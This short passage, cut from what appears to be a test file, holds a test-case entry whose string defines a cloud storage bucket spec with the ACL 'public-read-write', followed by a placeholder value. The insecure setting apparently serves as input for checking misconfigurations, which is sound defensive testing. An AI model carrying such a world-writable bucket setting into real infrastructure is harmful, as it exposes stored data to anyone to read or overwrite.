      'spec: {forProvider: {acl: public-read-write, locationConstraint: us-east-1}}',
      'x',
    ),
  ],
];
